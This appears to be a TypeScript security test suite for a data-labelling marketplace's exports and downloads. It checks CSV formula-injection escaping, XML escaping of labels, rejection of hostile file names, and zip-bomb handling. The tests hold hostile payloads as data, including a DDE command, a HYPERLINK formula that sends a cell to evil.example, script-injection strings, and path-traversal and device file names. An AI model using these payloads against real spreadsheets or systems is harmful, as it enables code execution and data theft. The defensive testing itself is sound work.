import { readFileSync } from 'node:fs';
import { Keypair, PublicKey } from '@solana/web3.js';
import { parse } from 'csv-parse/sync';
import { expect } from 'chai';
import { toCsv, toLabelStudio, labelStudioConfig } from '@tagger/client/exports';
import { createMember, licenceMintPda, PROGRAM_ID, setKey } from '@tagger/client';
import { deliveryKey, identityFromWallet, seedWallet } from '@tagger/client/keys';
import { published } from '../../bots/test/support/market.ts';
import { aMember } from '../../tests/support/build.ts';
import { delivery, purchase } from '../../tests/support/datasets.ts';
import { act, airdrop, giveTag, type Actor } from '../../tests/support/world.ts';
import { zip } from './support/bombs.ts';
import { openSite, type Site } from './support/browser.ts';
import { answerAll, crewOf, settleAll } from './support/crew.ts';
import { publishedData } from './support/datasets.ts';
import { ALL, canary } from './support/hostile.ts';
import { connect } from './support/people.ts';

/** Cells that spreadsheets take for formulas (OWASP), and ways to get one into a cell of its own. */
const FORMULAS: readonly (readonly [string, string])[] = [
  ['equals', '=1+1'],
  ['plus', '+1+1'],
  ['minus', '-1+1'],
  ['at', '@SUM(1)'],
  ['a tab', '\t=1+1'],
  ['a carriage return', '\r=1+1'],
  ['a line feed', '\n=1+1'],
  ['a space in front', ' =1+1'],
  ['a space without width in front', '\ufeff=1+1'],
  ['full width', '\uff1d1+1'],
  ['a command', "=cmd|' /C calc'!A0"],
  ['a link that tells', '=HYPERLINK("https://evil.example/?"&A1,"press")'],
  ['a quote that ends the cell', 'a","=1+1'],
  ['a line that ends the row', 'a\r\n=1+1,b'],
  ['a semicolon that ends the cell elsewhere', 'a;=1+1;b'],
  ['a tab that ends the cell elsewhere', 'a\t=1+1'],
  ['an apostrophe already', "'=1+1"],
];
/** As a spreadsheet reads a cell: it runs what begins so. */
const RUNS = /^[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

/** Reads a table strictly; every cell that is no number is harmless. */
function harmless(csv: string): string[][] {
  const rows: string[][] = parse(csv, { relax_quotes: false, skip_empty_lines: false });
  const bad = rows.flat().filter((cell) => RUNS.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
  expect(bad, 'cells that run').to.deep.equal([]);
  return rows;
}

describe('tables that pages make of strangers’ words', () => {
  const table = (...values: string[]): string =>
    toCsv([
      { name: '=1+1', type: 'text', values },
      { name: 'label', type: 'text', values },
    ]);
  for (const [name, text] of FORMULAS)
    it(`[attack 152] ${name}: no cell of it runs, and nothing of it is lost`, () => {
      const rows = harmless(table(text));
      expect(rows).to.have.length(2);
      expect([text, `'${text}`]).to.include(rows[1]![0]);
    });

  it('[attack 152] every hostile word there is, each in a row of its own', () => {
    const words = [...FORMULAS, ...ALL].map(([, text]) => text);
    expect(harmless(table(...words))).to.have.length(words.length + 1);
  });

  it('[attack 152] a null character is refused by name', () => {
    expect(() => table('a\0=1+1')).to.throw('null character');
  });

  it('[attack 152] what ends a cell in other countries stands in quotes', () => {
    expect(table('a;=1+1;b').split('\r\n')[1]).to.equal('"a;=1+1;b","a;=1+1;b"');
    expect(table('a\t=1+1').split('\r\n')[1]).to.equal('"a\t=1+1","a\t=1+1"');
  });

  it('[attack 139] labels in a form that another program reads as XML are escaped', () => {
    const classes = ['"/><script>globalThis.pwned=1</script>', "' onload='globalThis.pwned=1", '&lt;b&gt;'];
    const set = { classes, items: [{ id: '1', classLabel: 0, text: 'a' }] };
    const config = labelStudioConfig(set, 'text');
    expect(config).not.to.match(/<script|"\/><|&lt;b&gt;"/);
    expect(toLabelStudio(set, 'text')).to.have.length(1);
  });
});

describe('downloads in a browser', function () {
  this.timeout(300_000);
  const bea = Keypair.generate();
  let site: Site;
  let pro: Actor;
  before(async () => {
    site = await openSite({ Bea: bea });
    await airdrop(site.world.connection, bea.publicKey, 2_000_000_000);
    pro = await aMember(site.world, 'Pro', 0n);
  });
  after(() => site.stop());

  it('[attack 152] labels of a task whose classes and items are formulas', async () => {
    const { world, arweave, url } = site;
    const classes = FORMULAS.slice(0, 15).map(([, text]) => text);
    const items = FORMULAS.slice(0, 10).map(([, text]) => text);
    const { task } = await published(world, arweave, { classes, items, seats: 2, terms: { classes: 15, bits: 4 } });
    await answerAll(world, task, await crewOf(world, task, 2), (_, place) => place);
    await settleAll(world, task);
    const { page, calm } = await canary(site);
    await page.goto(`${url}/my-tasks/${task.toBase58()}`);
    await page.getByRole('link', { name: 'Labels' }).click();
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download', exact: true }).click(),
    ]);
    expect(file.suggestedFilename()).to.equal(`labels-${task.toBase58().slice(0, 8)}.csv`);
    const rows = harmless(readFileSync(await file.path(), 'utf8'));
    expect(rows).to.have.length(11);
    const at = rows[0]!.indexOf('label');
    expect(rows.slice(1, 5).map((row) => row[at])).to.deep.equal(["'=1+1", "'+1+1", "'-1+1", "'@SUM(1)"]);
    await calm();
  });

  const names: [string, string][] = [
    ['a way up', '../../labels.csv'],
    ['a way up of another system', '..\\..\\labels.csv'],
    ['a place of its own', '/etc/cron.d/labels'],
    ['another drive', 'C:labels.csv'],
    ['a stream of its own', 'labels.csv:evil.exe'],
    ['turned text', 'labels\u202evsc.exe'],
    ['a device', 'con.csv'],
    ['a device with a number', 'LPT1'],
    ['a null character', 'labels\0.csv'],
    ['a line break', 'labels\n.csv'],
    ['a dot first', '.bashrc'],
    ['a dot last', 'labels.csv.'],
    ['an option', '-rf'],
    ['nothing', ''],
    ['10,000 letters', 'a'.repeat(10_000)],
    ['markup', '<img src=x onerror=globalThis.pwned=1>'],
  ];
  for (const [at, [what, name]] of names.entries())
    it(`[attack 139] a dataset whose file is called by ${what}: its card is refused with a sentence`, async () => {
      const forge = (card: string): string => card.replaceAll('"labels.csv"', JSON.stringify(name));
      const wanted = { plain: Buffer.from('x'), nonce: BigInt(at + 1), forge };
      const { dataset } = await publishedData(site.world, site.arweave, pro, wanted);
      const { page, calm } = await canary(site, [], 390);
      await page.goto(`${site.url}/datasets/${dataset.toBase58()}`);
      await page.getByRole('alert').getByText('is no file name').waitFor();
      expect(await page.getByRole('button', { name: /^Download/ }).count()).to.equal(0);
      expect(await page.evaluate('document.documentElement.scrollWidth')).to.be.at.most(390);
      await calm();
    });

  it('[attack 149] a dataset that is a zip bomb is saved byte for byte, and nothing unpacks it', async () => {
    const { world, arweave, url } = site;
    const bomb = zip(64_000_000);
    const data = await publishedData(world, arweave, pro, {
      ...{ plain: bomb, plainName: 'bomb.zip', nonce: 100n },
      sample: [{ name: 'public.zip', mediaType: 'application/zip', bytes: bomb }],
    });
    const domain = { genesisHash: await world.connection.getGenesisHash(), programId: PROGRAM_ID.toBase58() };
    const identity = await identityFromWallet(seedWallet(bea.secretKey), domain);
    const tokens = await giveTag(world, bea.publicKey, 20_000_000n);
    const buyer: Actor = { name: 'Bea', wallet: bea, key: bea.publicKey, tokens };
    const { key } = buyer;
    await act(world, buyer, createMember({ wallet: key }), setKey({ wallet: key, key: deliveryKey(identity) }));
    await act(world, buyer, purchase(world, data, buyer, { terms: data.terms }));
    await act(world, world.deployer, await delivery(world, data, buyer));
    expect(licenceMintPda(data.dataset, key, 1n)).to.be.instanceOf(PublicKey);

    const { page, calm } = await canary(site);
    const content = `delete globalThis.showSaveFilePicker;
      globalThis.unpacked = 0;
      const Real = globalThis.DecompressionStream;
      globalThis.DecompressionStream = class extends Real {
        constructor(kind) { globalThis.unpacked += 1; super(kind); }
      };`;
    await page.addInitScript({ content });
    await page.goto(`${url}/datasets/${data.dataset.toBase58()}`);
    await page.getByRole('rowheader', { name: 'public.zip' }).waitFor();
    await page.getByRole('rowheader', { name: 'bomb.zip' }).waitFor();
    await page.goto(`${url}/licences`);
    await connect(page, 'Bea');
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download bomb.zip' }).click();
    await page.getByRole('dialog', { name: 'Your own key' }).waitFor();
    await page.getByRole('button', { name: 'Continue to the wallet' }).click();
    const file = await saved;
    expect(file.suggestedFilename()).to.equal('bomb.zip');
    expect(Buffer.compare(readFileSync(await file.path()), bomb)).to.equal(0);
    expect(await page.evaluate('globalThis.unpacked')).to.equal(0);
    await calm();
  });
});
